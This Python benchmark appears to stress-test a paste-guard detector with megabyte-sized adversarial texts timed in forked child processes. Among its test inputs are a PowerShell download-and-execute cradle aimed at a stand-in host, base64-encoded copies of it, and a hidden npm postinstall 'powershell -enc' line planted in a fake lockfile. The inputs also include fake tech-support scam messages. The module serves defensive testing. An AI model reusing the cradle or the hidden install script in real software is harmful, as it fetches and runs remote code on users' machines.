"""Hostile inputs: ~1 MiB texts built to make a scanner slow, each timed in a forked child."""

from __future__ import annotations

import base64
import json
import multiprocessing
import random
import string
import time
from collections.abc import Callable
from dataclasses import dataclass
from multiprocessing.connection import Connection

from bench.engine import SUSPICIOUS, engine, label
from bench.report import Result, met, table

SIZE = 1_048_576  # characters
SEED = 20250101
RUNS = 3
TARGET_MS = 100.0
SLOW_MS = 2_000.0  # after a run this slow, skip the remaining runs of that input
TIMEOUT_S = 20.0  # a child that has not finished by then is killed and reported as hung
HEADERS = ("input", "chars", "max ms", "level", "complete", "fail-closed", "target", "met?")
CRADLE = "IEX (New-Object Net.WebClient).DownloadString('http://cradle.example.invalid/a.ps1')"


def _fill(unit: str, size: int = SIZE) -> str:
    return (unit * (size // len(unit) + 1))[:size]


def nested_base64(text: str = CRADLE, levels: int = 10) -> str:
    for _ in range(levels):
        text = base64.b64encode(text.encode("utf-8")).decode("ascii")
    return text


def urls(count: int = 40_000) -> str:
    """URLs, space separated, up to 1 MiB (the engine reads no further: a longer text is
    incomplete by design, whatever it holds)."""
    text = " ".join(f"https://h{i}.example.invalid/p/{i}?q={i}" for i in range(count))
    return text[: text.rfind(" ", 0, SIZE)]


def random_ascii(rng: random.Random) -> str:
    return "".join(rng.choices(string.printable, k=SIZE))


def random_unicode(rng: random.Random) -> str:
    """Letters from many scripts mixed with combining marks, bidi controls and zero-widths."""
    pools = [
        [chr(c) for c in range(0x20, 0x7F)],
        [chr(c) for c in range(0x0300, 0x0370)],  # combining diacritical marks
        [chr(c) for c in (*range(0x202A, 0x202F), *range(0x2066, 0x206A), 0x200E, 0x200F)],
        [chr(c) for c in (0x200B, 0x200C, 0x200D, 0x2060, 0xFEFF, 0x00A0, 0x3000)],
        [chr(c) for c in range(0x0400, 0x0530)],  # Cyrillic, Armenian (homoglyphs)
        [chr(c) for c in range(0x0590, 0x0700)],  # Hebrew, Arabic (right to left)
        [chr(c) for c in range(0x4E00, 0x4F00)],  # CJK
        [chr(c) for c in range(0xFF01, 0xFF5F)],  # full-width forms (NFKC folds them)
        [chr(c) for c in range(0x1F300, 0x1F400)],  # astral plane
    ]
    return "".join(rng.choice(rng.choice(pools)) for _ in range(SIZE))


def nested_brackets() -> str:
    opens, closes = ("$(", "(", "[", "{"), (")", ")", "]", "}")
    depth = SIZE // sum(len(o) + len(c) for o, c in zip(opens, closes, strict=True))
    return "".join(opens) * depth + "".join(reversed(closes)) * depth


def access_log() -> str:
    """A web server log: a URL and a query string on every line (command-word windows)."""
    lines = (
        f'10.0.{i % 250}.{i % 200} - - [05/Dec/2026:12:{i % 60:02d}:00] "GET /p/{i}?q=a%20b '
        f'HTTP/1.1" 200 {i % 9973} "https://shop.example.invalid/p/{i}"\n'
        for i in range(12_000)
    )
    return _fill("".join(lines))


def lockfile() -> str:
    """A package lock: one integrity digest per package (base64 that decodes to nothing)."""
    rng = random.Random(SEED)
    rows = (
        f'  "node_modules/p{i}": {{"resolved": "https://registry.example.invalid/p{i}.tgz", '
        f'"integrity": "sha512-{base64.b64encode(rng.randbytes(64)).decode()}"}},\n'
        for i in range(6_000)
    )
    return _fill("".join(rows))


def lockfile_with_cradle() -> str:
    """The lockfile with an npm script that runs an encoded PowerShell cradle, at 60 %."""
    script = base64.b64encode(CRADLE.encode("utf-16-le")).decode()
    line = f'  "scripts": {{"postinstall": "powershell -w hidden -enc {script}"}},\n'
    text = lockfile()
    at = text.find("\n", int(SIZE * 0.6)) + 1
    return (text[:at] + line + text[at:])[: text.rfind("\n", 0, SIZE - len(line)) + len(line) + 1]


def data_uri() -> str:
    """An <img> with a PNG inlined as base64: one base64 run of almost 1 MiB."""
    png = b"\x89PNG\r\n\x1a\n" + random.Random(SEED).randbytes(SIZE * 3 // 4 - 64)
    return f'<img src="data:image/png;base64,{base64.b64encode(png).decode()}">'[:SIZE]


def scam_texts() -> str:
    """Scam texts with phone numbers, over and over (the scam-call rules on every line)."""
    unit = (
        "Your computer has been blocked. Call Microsoft Support now: +1 (888) 555-0199. "
        "Ihr Computer wurde gesperrt, rufen Sie 0800 123 4567 an. "
        "您的电脑已被锁定，请拨打 400-123-4567\n"
    )
    return _fill(unit)


def distinct_encoded_commands() -> str:
    """Many different encoded commands, one per line: more live blobs than the windows hold."""
    lines = (
        "powershell -enc "
        + base64.b64encode(CRADLE.replace("a.ps1", f"a{i}.ps1").encode("utf-16-le")).decode()
        + "\n"
        for i in range(4_000)
    )
    return _fill("".join(lines))


def short_runs(rng: random.Random) -> str:
    """Distinct 32-character runs of random base64, space separated: the most runs a
    megabyte can hold, each one judged and blanked on its own (noise.py, blobs.py)."""
    return _fill(" ".join(base64.b64encode(rng.randbytes(24)).decode() for _ in range(32_000)))


def wrapped_image() -> str:
    """A PNG as `base64` writes it, 76 characters a line: 14,000 runs of one blob."""
    png = b"\x89PNG\r\n\x1a\n" + random.Random(SEED).randbytes(SIZE * 3 // 4 - 64)
    text = base64.encodebytes(png).decode()
    return text[: text.rfind("\n", 0, SIZE) + 1]


def nested_tokens(rng: random.Random) -> str:
    """Base64 JSON tokens, each carrying ten base64 blobs of its own (a log of JWT-like
    tokens made to make every blob be looked into, one level down)."""

    def token() -> str:
        claims = {f"k{j}": base64.b64encode(rng.randbytes(30)).decode() for j in range(10)}
        return base64.b64encode(json.dumps(claims).encode()).decode()

    return _fill("\n".join(token() for _ in range(2_000)) + "\n")


def sha256_sums() -> str:
    """`sha256sum` output: a 64-digit hex digest and a file name per line."""
    rows = (
        f"{random.Random(i).randbytes(32).hex()}  dist/file-{i}.tar.gz\n" for i in range(20_000)
    )
    return _fill("".join(rows))


# cmd variables and PowerShell's format operator are expanded statically: one short reference
# stands for 200 characters, and a format string repeats its arguments up to 40 times
FORMAT_BOMB = '("' + "{0}" * 40 + "\" -f '" + "%x%" * 26 + "')"


def expansion_bomb(size: int = SIZE) -> str:
    return "set x=" + "A" * 200 + "&&" + _fill("%x%", size - 208)


def format_bomb(size: int = SIZE) -> str:
    return "set x=" + "A" * 200 + "&&" + _fill(FORMAT_BOMB + ";", size - 208)


def inputs() -> list[tuple[str, Callable[[], str]]]:
    """(name, builder) pairs; builders are called in order with one seeded generator."""
    rng = random.Random(SEED)
    return [
        ("carets `^`", lambda: _fill("^")),
        ("opening parentheses `(`", lambda: _fill("(")),
        ("backticks", lambda: _fill("`")),
        ("double quotes", lambda: _fill('"')),
        ("single quotes", lambda: _fill("'")),
        ("zero-width spaces U+200B", lambda: _fill("\u200b")),
        ("NUL bytes", lambda: _fill("\x00")),
        ("nested base64, 10 levels of a cradle (one blob)", nested_base64),
        ("nested base64 blobs, space separated", lambda: _fill(nested_base64() + " ")),
        ("URLs, space separated", urls),
        ("random printable ASCII", lambda: random_ascii(rng)),
        ("random Unicode + bidi + combining marks", lambda: random_unicode(rng)),
        ("one line of `A`", lambda: _fill("A")),
        ("repeated `powershell -enc `", lambda: _fill("powershell -enc ")),
        ("repeated `set a=b&&`", lambda: _fill("set a=b&&")),
        ("nested `$( ( [ {` … `} ] ) )`", nested_brackets),
        ("web server log, a URL per line", access_log),
        ("package lock, a digest per line", lockfile),
        ("package lock with an encoded cradle in it", lockfile_with_cradle),
        ("PNG as a base64 data: URI", data_uri),
        ("scam texts with phone numbers, 3 languages", scam_texts),
        ("distinct encoded commands, one per line", distinct_encoded_commands),
        ("32-character base64 runs, space separated", lambda: short_runs(rng)),
        ("PNG as wrapped base64, 76 a line", wrapped_image),
        ("base64 JSON tokens with blobs inside", lambda: nested_tokens(rng)),
        # the unit test (tests/app/detection/test_hostile.py) reads these too, by its clocks'
        # looks; the time they take is measured here
        ("SHA-256 sums, a digest and a file per line", sha256_sums),
        ("homoglyph command words (Cyrillic с in curl)", lambda: _fill("\u0441url ")),
        ("Unicode spaces in a command", lambda: _fill("curl\u2003")),
        ("cmd variables expanding to megabytes", expansion_bomb),
        ("format operator of variables", format_bomb),
        ("cmd variables expanding, 4 KiB of them", lambda: expansion_bomb(4096)),
        ("format operator of variables, 4 KiB", lambda: format_bomb(4096)),
    ]


@dataclass(frozen=True)
class Outcome:
    """The slowest of the runs that finished, and the last verdict's level and completeness."""

    runs: int
    max_ms: float
    level: int
    complete: bool
    error: str = ""


def _child(text: str, conn: Connection, targets: tuple[str, ...] = ()) -> None:
    """Analyse ``text`` up to RUNS times, sending each run's result as it finishes (with
    `targets`, one reading judged pasted into each: the worst level, and complete if all are)."""
    from app.detection import Context, PasteTarget

    contexts = [Context(target=PasteTarget.parse(t)) for t in targets] or [Context()]
    try:
        eng = engine()
        for _ in range(RUNS):
            start = time.perf_counter()
            verdicts = eng.read(text, contexts)
            ms = (time.perf_counter() - start) * 1000
            level = max(int(v.level) for v in verdicts)
            conn.send((ms, level, all(v.complete for v in verdicts), ""))
            if ms > SLOW_MS:
                break
    except Exception as exc:  # report the crash, the parent keeps going
        conn.send((0.0, -1, False, f"{type(exc).__name__}: {exc}"))
    finally:
        conn.close()


def measure(text: str, targets: tuple[str, ...] = ()) -> Outcome:
    """Run the child in a forked process so a hang or a crash cannot stop the benchmark."""
    ctx = multiprocessing.get_context("fork")
    receiver, sender = ctx.Pipe(duplex=False)
    proc = ctx.Process(target=_child, args=(text, sender, targets), daemon=True)
    proc.start()
    sender.close()
    results: list[tuple[float, int, bool, str]] = []
    deadline = time.monotonic() + TIMEOUT_S
    while len(results) < RUNS and receiver.poll(max(0.0, deadline - time.monotonic())):
        try:
            results.append(receiver.recv())
        except EOFError:
            break
    hung = proc.is_alive() and time.monotonic() >= deadline
    if hung:
        proc.kill()
    proc.join(5)
    return _outcome(results, hung, proc.exitcode)


def _outcome(
    results: list[tuple[float, int, bool, str]], hung: bool, exitcode: int | None
) -> Outcome:
    errors = [r[3] for r in results if r[3]]
    done = [r for r in results if not r[3]]
    if hung:
        errors.append(f"no verdict within {TIMEOUT_S:.0f} s")
    elif not results:
        errors.append(f"child died (exit code {exitcode})")
    if not done:
        return Outcome(0, float("inf"), -1, False, "; ".join(errors))
    return Outcome(len(done), max(r[0] for r in done), done[-1][1], done[-1][2], "; ".join(errors))


def run() -> list[Result]:
    # build it once in the parent, warmed as the guard's analysis process warms it, so every
    # child inherits it ready
    from app.detection.worker import warm

    warm(engine())
    rows, errors = [], []
    for name, build in inputs():
        text = build()
        outcome = measure(text)
        rows.append(_row(name, text, outcome))
        if outcome.error:
            errors.append(f"- {name}: {outcome.error}")
    notes = [
        f"Each input analysed {RUNS} times in a forked child (the engine is built once, in "
        "the parent); the slowest run is shown. A child with no verdict within "
        f"{TIMEOUT_S:.0f} s is killed. Random inputs use seed {SEED}. Fail-closed is NO when "
        "an analysis that did not complete still came back below suspicious.",
    ]
    if errors:
        notes.append("\n".join(["**Errors:**", "", *errors]))
    return [
        Result("Detection speed: hostile inputs", table(HEADERS, rows, "lrrlcclc"), notes),
        shorter_hostile(),
        ordinary(),
    ]


# The inputs a long text's larger budget (Engine.budget_for) could make slowest: a text
# shorter than a megabyte may use more of the budget, as it costs less outside it.
SHORTER_SIZES = (256 * 1024, 512 * 1024)
SHORTER_KINDS = (
    "zero-width spaces U+200B",
    "random printable ASCII",
    "random Unicode + bidi + combining marks",
    "package lock, a digest per line",
    "package lock with an encoded cradle in it",
    "scam texts with phone numbers, 3 languages",
    "distinct encoded commands, one per line",
    "32-character base64 runs, space separated",
    "base64 JSON tokens with blobs inside",
)


def shorter_hostile() -> Result:
    built = {name: build for name, build in inputs()}
    rows, errors = [], []
    for name in SHORTER_KINDS:
        whole = built[name]()
        for size in SHORTER_SIZES:
            text = whole[:size]
            outcome = measure(text)
            rows.append(_row(f"{name}, first {size // 1024} KiB", text, outcome))
            if outcome.error:
                errors.append(f"- {name} ({size // 1024} KiB): {outcome.error}")
    notes = [
        "The heaviest of the inputs above, cut to their first 256 and 512 KiB: a text longer "
        "than 64 KiB and shorter than the megabyte the engine reads is given more of its time "
        "budget (up to 1.2 times it, `Engine.budget_for`), as it costs less outside it "
        "(encoding it, scanning it for triggers, blanking its runs). Measured as above.",
    ]
    if errors:
        notes.append("\n".join(["**Errors:**", "", *errors]))
    return Result(
        "Detection speed: hostile inputs shorter than a megabyte",
        table(HEADERS, rows, "lrrlcclc"),
        notes,
    )


ORDINARY_TARGETS = ("unknown", "other", "terminal")  # bare, an editor, a terminal
ORDINARY_HEADERS = ("text", "chars", "max ms", "worst level", "complete", "target", "met?")


def ordinary() -> Result:
    """What people copy whole (tests/app/detection/bigtexts.py ORDINARY): judged on content."""
    from tests.app.detection.bigtexts import ORDINARY

    rows = []
    for name, (make, size) in ORDINARY.items():
        text = make(size)
        out = measure(text, ORDINARY_TARGETS)
        judged = out.runs > 0 and out.complete and 0 <= out.level < SUSPICIOUS
        fast = out.runs > 0 and out.max_ms <= TARGET_MS
        rows.append(
            [
                name,
                f"{len(text):,}",
                f"{out.max_ms:,.1f}" if out.runs else "–",
                label(out.level) if out.runs else "error",
                "yes" if out.complete else "**no**",
                f"complete, below suspicious, ≤ {TARGET_MS:.0f} ms",
                met(judged and fast),
            ]
        )
    notes = [
        "Size is not evidence (issue 9): ordinary texts of a few hundred KiB, generated by "
        "tests/app/detection/bigtexts.py (our own code, logs, lockfiles with sha512 integrity "
        "digests, licence prose, a minified bundle with inlined images). Each is read once and "
        "judged bare, pasted into an editor and into a terminal (`Engine.read`, the worst level "
        f"shown), {RUNS} times in a forked child with the default time budget; the slowest "
        "run is shown (the first, whose RE2 states are built for this text).",
    ]
    return Result(
        "Detection: large ordinary texts, default budget",
        table(ORDINARY_HEADERS, rows, "lrrlclc"),
        notes,
    )


def _row(name: str, text: str, out: Outcome) -> list[object]:
    if out.runs == 0:
        target = f"≤ {TARGET_MS:.0f} ms"
        return [name, f"{len(text):,}", "–", "error", "–", met(False), target, met(False)]
    over = out.max_ms > TARGET_MS
    ms = f"**{out.max_ms:,.1f}**" if over else f"{out.max_ms:,.1f}"
    if out.runs < RUNS:
        ms += f" ({out.runs} run{'s' if out.runs > 1 else ''})"
    closed = out.complete or out.level >= SUSPICIOUS
    return [
        name,
        f"{len(text):,}",
        ms,
        label(out.level),
        "yes" if out.complete else "no",
        met(closed),
        f"≤ {TARGET_MS:.0f} ms",
        met(not over and not out.error),
    ]
